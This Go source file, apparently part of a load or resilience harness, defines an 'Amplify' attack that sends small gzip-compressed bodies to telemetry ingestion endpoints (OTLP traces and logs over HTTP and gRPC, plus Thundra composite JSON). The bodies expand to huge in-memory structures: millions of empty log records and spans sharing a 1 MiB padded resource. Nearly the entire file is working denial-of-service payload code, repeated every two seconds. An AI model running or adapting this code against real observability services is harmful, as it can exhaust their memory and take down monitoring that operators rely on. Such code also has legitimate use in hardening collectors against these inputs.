package hostile

import (
	"bytes"
	"compress/gzip"
	"context"
	"fmt"
	"strconv"
	"strings"
	"time"

	"go.opentelemetry.io/collector/pdata/pcommon"
	"go.opentelemetry.io/collector/pdata/ptrace"
	"go.opentelemetry.io/collector/pdata/ptrace/ptraceotlp"
	"google.golang.org/grpc"
	"google.golang.org/grpc/credentials/insecure"
	grpcgzip "google.golang.org/grpc/encoding/gzip"
	"google.golang.org/grpc/metadata"
	"google.golang.org/grpc/status"
)

const (
	amplifyEvery = 2 * time.Second
	sharing      = 1000 // records of one body

	hugeResource   = 1<<20 + 100<<10 // more than a record may have
	commonMembers  = 100 << 10
	modestResource = 8 << 10

	emptyRecords = 5_200_000 // in 10 MiB, the largest body
)

// Amplify posts small bodies that are large in memory.
func Amplify(ctx context.Context, a *Attacker) error {
	huge, err := spansSharing(hugeResource, "huge").MarshalProto()
	if err != nil {
		return fmt.Errorf("encode spans: %w", err)
	}
	connection, err := a.dial()
	if err != nil {
		return err
	}
	defer func() { _ = connection.Close() }() // nothing that counts is on its way
	bodies := [][]byte{packed(huge), packed(emptyLogs()), packed(composite())}
	paths := []string{"/v1/traces", "/v1/logs", "/v1/composite-monitoring-data"}
	return every(ctx, amplifyEvery, func(turn int) error {
		kind := turn % (len(bodies) + 1)
		if kind == len(bodies) {
			return a.export(ctx, connection, spansSharing(modestResource, strconv.Itoa(turn)))
		}
		header := map[string]string{"Content-Encoding": "gzip", "Content-Type": "application/x-protobuf"}
		if paths[kind] == "/v1/composite-monitoring-data" {
			header["Content-Type"] = "application/json"
		}
		return a.post(ctx, paths[kind], bodies[kind], header)
	})
}

// spansSharing are spans with one resource of a size.
func spansSharing(size int, name string) ptraceotlp.ExportRequest {
	traces := ptrace.NewTraces()
	resource := traces.ResourceSpans().AppendEmpty()
	resource.Resource().Attributes().PutStr("service.name", "amplifier")
	resource.Resource().Attributes().PutStr("padding", strings.Repeat("x", size))
	spans := resource.ScopeSpans().AppendEmpty().Spans()
	for n := range sharing {
		span := spans.AppendEmpty()
		span.SetName(name)
		span.SetTraceID([16]byte{1, byte(n), byte(n >> 8)})
		span.SetSpanID([8]byte{2, byte(n), byte(n >> 8)})
		at := pcommon.NewTimestampFromTime(time.Now())
		span.SetStartTimestamp(at)
		span.SetEndTimestamp(at)
	}
	return ptraceotlp.NewExportRequestFromTraces(traces)
}

// emptyLogs is a request for logs whose records take two bytes each: the field
// log_records of scope_logs of resource_logs, each of length zero.
func emptyLogs() []byte {
	records := bytes.Repeat([]byte{0x12, 0}, emptyRecords)
	return field(0x0a, field(0x12, records))
}

// field is a protobuf field with a length.
func field(tag byte, value []byte) []byte {
	out := []byte{tag}
	size := uint64(len(value))
	for ; size >= 0x80; size >>= 7 {
		out = append(out, byte(size)|0x80)
	}
	return append(append(out, byte(size)), value...)
}

// composite is one of Thundra's agents' whose records share members.
func composite() []byte {
	var body bytes.Buffer
	fmt.Fprintf(&body, `{"type":"Composite","dataModelVersion":"2.0","data":{"applicationTags":{"padding":"%s"},"allMonitoringData":[`, strings.Repeat("x", commonMembers))
	for n := range sharing {
		if n > 0 {
			body.WriteByte(',')
		}
		fmt.Fprintf(&body, `{"id":"composite-%d","type":"Span"}`, n)
	}
	body.WriteString(`]}}`)
	return body.Bytes()
}

func packed(body []byte) []byte {
	var out bytes.Buffer
	writer := gzip.NewWriter(&out)
	_, _ = writer.Write(body) // into memory: never fails
	_ = writer.Close()
	return out.Bytes()
}

func (a *Attacker) dial() (*grpc.ClientConn, error) {
	connection, err := grpc.NewClient(a.grpc, grpc.WithTransportCredentials(insecure.NewCredentials()))
	if err != nil {
		return nil, fmt.Errorf("make a client for gRPC: %w", err)
	}
	return connection, nil
}

// authorized is ctx with the key for a call over gRPC.
func (a *Attacker) authorized(ctx context.Context) context.Context {
	return metadata.AppendToOutgoingContext(ctx, "authorization", "ApiKey "+a.key)
}

// export sends a request over gRPC, compressed.
func (a *Attacker) export(ctx context.Context, connection *grpc.ClientConn, request ptraceotlp.ExportRequest) error {
	within, cancel := context.WithTimeout(a.authorized(ctx), attemptWithin)
	defer cancel()
	_, err := ptraceotlp.NewGRPCClient(connection).Export(within, request, grpc.UseCompressor(grpcgzip.Name))
	if ctx.Err() == nil {
		a.answered("gRPC " + status.Code(err).String())
	}
	return nil
}
